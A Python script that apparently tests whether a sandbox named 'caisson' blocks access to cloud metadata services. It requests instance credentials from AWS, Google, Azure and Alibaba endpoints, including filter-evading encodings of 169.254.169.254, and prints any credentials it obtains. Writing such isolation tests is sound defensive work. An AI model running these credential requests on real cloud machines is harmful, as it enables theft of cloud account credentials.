#!/usr/bin/env python3
"""Asks the cloud's metadata service for the credentials of the machine, in every dialect it knows."""
import os
import sys
import time
import urllib.error
import urllib.request

if not os.path.exists("/.caisson"):
    sys.exit("This program attacks the machine it runs on. Run it with: caisson run " + sys.argv[0])

ASKED = [
    ("AWS", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", {}),
    ("AWS over IPv6", "http://[fd00:ec2::254]/latest/meta-data/", {}),
    ("AWS, containers", "http://169.254.170.2/v2/credentials/", {}),
    ("Google", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", {"Metadata-Flavor": "Google"}),
    ("Google by address", "http://169.254.169.254/computeMetadata/v1/?recursive=true", {"Metadata-Flavor": "Google"}),
    ("Azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", {"Metadata": "true"}),
    ("Alibaba", "http://100.100.100.200/latest/meta-data/ram/security-credentials/", {}),
    ("written as a number", "http://2852039166/latest/meta-data/", {}),
    ("mapped into IPv6", "http://[::ffff:169.254.169.254]/latest/meta-data/", {}),
]
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
stolen = 0
for name, url, headers in ASKED:
    began = time.monotonic()
    try:
        with opener.open(urllib.request.Request(url, headers=headers), timeout=5) as answer:
            print(f"{name}: STOLEN {answer.read(64)!r}")
            stolen += 1
    except (urllib.error.URLError, OSError) as e:
        print(f"{name}: {getattr(e, 'reason', e)}, after {(time.monotonic() - began) * 1000:.0f} ms", flush=True)
print(f"stolen: {stolen}; what stopped it: " + ("nothing" if stolen else "there is no route to any of them"))
